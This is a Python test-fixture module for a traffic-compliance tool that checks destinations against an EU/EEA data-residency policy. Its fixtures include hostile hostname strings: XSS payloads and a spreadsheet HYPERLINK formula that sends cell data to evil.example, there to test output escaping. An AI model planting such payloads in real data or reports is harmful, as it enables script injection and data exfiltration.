"""A hand-made report (one destination of each verdict, a call, two sources, hostile names),
flow rows, and Ed25519 keys for signing tests."""

from __future__ import annotations

from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import (
    BestAvailableEncryption,
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
    load_pem_private_key,
)

from tracecheck.report.model import (
    Accounting,
    Call,
    Destination,
    EvidenceItem,
    Input,
    Name,
    PolicyRef,
    Report,
    Source,
    Summary,
    Tool,
)
from tracecheck.vocabulary import Verdict

HOSTILE_SCRIPT = "<script>alert(1)</script>.example"
HOSTILE_ATTRIBUTE = '"><img src=x onerror=alert(2)>.example'
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def destinations(hostile: bool = True) -> list[Destination]:
    transcribe = Destination(
        ip="3.224.10.20",
        names=[Name(name="transcribestreaming.us-east-1.amazonaws.com", source="sni")],
        provider="aws", service="AMAZON", region="us-east-1", country="US", jurisdictions=["US"],
        vendor="AWS Transcribe", category="transcription", flows=2, orig_bytes=1_234_567, resp_bytes=45_678,
        first_ts=1764230400.123456789, last_ts=1764230460.5, verdict="violation",
        reasons=["transcription, AWS Transcribe at us-east-1 (US, Virginia): US is not in {EU, EEA}"],
        evidence=[EvidenceItem(source="sni", claim="name transcribestreaming.us-east-1.amazonaws.com"),
                  EvidenceItem(source="aws-ip-ranges", claim="region us-east-1",
                               detail="ip-ranges.json 2026-08-22, prefix 3.224.0.0/12")],
        fails=True,
    )
    genesys = Destination(
        ip="52.18.1.2",
        names=[Name(name="apps.mypurecloud.ie", source="sni"), Name(name="apps.mypurecloud.ie", source="dns")],
        provider="aws", service="EC2", region="eu-west-1", country="IE", jurisdictions=["EU", "EEA"],
        vendor="Genesys", category="platform", flows=5, orig_bytes=10_000, resp_bytes=200_000,
        first_ts=1764230399.0, last_ts=1764230470.0, verdict="compliant",
        reasons=["platform, Genesys at eu-west-1 (IE, Dublin): IE is in {EU, EEA}"],
        evidence=[EvidenceItem(source="aws-ip-ranges", claim="region eu-west-1", detail="prefix 52.16.0.0/15")],
    )
    cdn = Destination(
        ip="2606:4700::6810:84e5",
        names=[Name(name=HOSTILE_SCRIPT if hostile else "cdn.example", source="sni"),
               Name(name=HOSTILE_ATTRIBUTE if hostile else "www.example", source="dns")],
        provider="cloudflare", country=None, vendor="", category="cdn", flows=1, orig_bytes=500, resp_bytes=900,
        first_ts=1764230401.25, last_ts=1764230402.75, verdict="indeterminate",
        reasons=["cdn, unclassified destination: anycast, no single country can be claimed"],
        evidence=[EvidenceItem(source="cloudflare", claim="anycast", detail="https://www.cloudflare.com/ips-v6 2026-11-01")],
        fails=False,
    )
    return [cdn, genesys, transcribe]  # deliberately not in report order


def summary_of(destinations: list[Destination], unknowns_fail: bool) -> Summary:
    """The contract's summary of hand-made destinations: ``violation`` if any is one, else
    ``indeterminate`` if there is one and unknowns fail (or nothing was judged), else ``compliant``."""
    count = {verdict: sum(1 for d in destinations if Verdict(d.verdict) is verdict) for verdict in Verdict}
    judged = sum(1 for d in destinations
                 if Verdict(d.verdict) in (Verdict.COMPLIANT, Verdict.VIOLATION) and d.basis != "local")
    if count[Verdict.VIOLATION]:
        verdict = Verdict.VIOLATION
    elif not judged or (count[Verdict.INDETERMINATE] and unknowns_fail):
        verdict = Verdict.INDETERMINATE
    else:
        verdict = Verdict.COMPLIANT
    return Summary(verdict=verdict, destinations=len(destinations), compliant=count[Verdict.COMPLIANT],
                   violations=count[Verdict.VIOLATION], indeterminate=count[Verdict.INDETERMINATE],
                   not_assessed=count[Verdict.NOT_ASSESSED], judged=judged)


def report(hostile: bool = True, **changes) -> Report:
    dests = changes.pop("destinations", None) or destinations(hostile)
    base = {
        "tool": Tool(version="0.1.0"),
        "inputs": [Input(path="hand-made/test-call.pcapng", sha256="a" * 64, format="pcapng", linktypes=[1],
                      packets=1000, first_ts=1764230399.0, last_ts=1764230470.0)],
        "accounting": Accounting(records=1000, decoded=990, skipped={"truncated_record": 4, "non_ip:arp": 6},
                              notes={"fragments_attributed": 2}),
        "sources": [Source(name="geoip2fast", kind="mmdb", version="1.2.2", date="2026-10-01", sha256="b" * 64,
                        age_days=57, stale=False),
                 Source(name="aws-ip-ranges", kind="aws", version="1724300000", date="2026-08-22",
                        sha256="c" * 64, age_days=97, stale=True)],
        "policy": PolicyRef(path="policy.yaml", sha256="d" * 64, name="gdpr-eu", authorized=["EU", "EEA"]),
        "summary": summary_of(dests, unknowns_fail=False),
        "destinations": dests,
        "calls": [Call(call_id="a84b4c76e66710@pc33.example", first_ts=1764230400.0, last_ts=1764230465.0,
                    signalling=["CSip2", "CSip1"], media=["CRtp1"])],
        "observability": ["An agent-desktop capture cannot show AudioHook or server-side data actions.",
                       "1 name hidden by ECH."],
        "warnings": ["aws-ip-ranges is 97 days old (stale)."],
    }
    base.update(changes)
    return Report(**base)


def flow_rows(hostile: bool = True) -> list[dict]:
    return [
        {"uid": "CAbc1", "ts": 1764230400.1234567, "duration": 1.5, "proto": "tcp",
         "id.orig_h": "10.0.0.5", "id.orig_p": 50000, "id.resp_h": "3.224.10.20", "id.resp_p": 443,
         "orig_pkts": 10, "orig_ip_bytes": 1000, "resp_pkts": 8, "resp_ip_bytes": 4000,
         "server_name": HOSTILE_FORMULA if hostile else "transcribestreaming.us-east-1.amazonaws.com",
         "name_source": "sni", "app": "tls", "vlan": None, "tunnel": "", "handshake_rtt_ms": 81.25,
         "capture_file": "hand-made/test-call.pcapng"},
        {"uid": "CAbc2", "ts": 1764230401.0, "duration": 0.0, "proto": "udp",
         "id.orig_h": "10.0.0.5", "id.orig_p": 53000, "id.resp_h": "10.0.0.1", "id.resp_p": 53,
         "orig_pkts": 1, "orig_ip_bytes": 60, "resp_pkts": 1, "resp_ip_bytes": 120,
         "server_name": "-1+2", "name_source": "", "app": "dns", "vlan": 10, "tunnel": "vxlan",
         "handshake_rtt_ms": None, "capture_file": "hand-made/test-call.pcapng"},
    ]


def write_key(path: Path, key: Ed25519PrivateKey | None = None, password: bytes | None = None) -> Path:
    key = key or Ed25519PrivateKey.generate()
    encryption = BestAvailableEncryption(password) if password else NoEncryption()
    path.write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, encryption))
    return path


def write_public(path: Path, private_pem: Path) -> Path:
    key = load_pem_private_key(private_pem.read_bytes(), password=None)
    path.write_bytes(key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))
    return path


POLICY_TEXT = b"# the policy as written\r\nname: gdpr-eu\nauthorized:\n  jurisdictions: [EU, EEA]\n"


def report_judged_by(policy: bytes = POLICY_TEXT, catalogs: list[tuple[str, bytes]] = (), **changes) -> Report:
    """``report()`` whose policy and service catalogs are these bytes (their hashes in the report)."""
    import hashlib

    base = report(**changes)
    sha = {given: hashlib.sha256(data).hexdigest() for given, data in catalogs}
    return base.model_copy(update={
        "policy": base.policy.model_copy(update={"sha256": hashlib.sha256(policy).hexdigest()}),
        "sources": base.sources + [Source(name=given, kind="service-catalog", version="1 services, 1 patterns",
                                          date="", sha256=sha[given]) for given, _ in catalogs],
    })
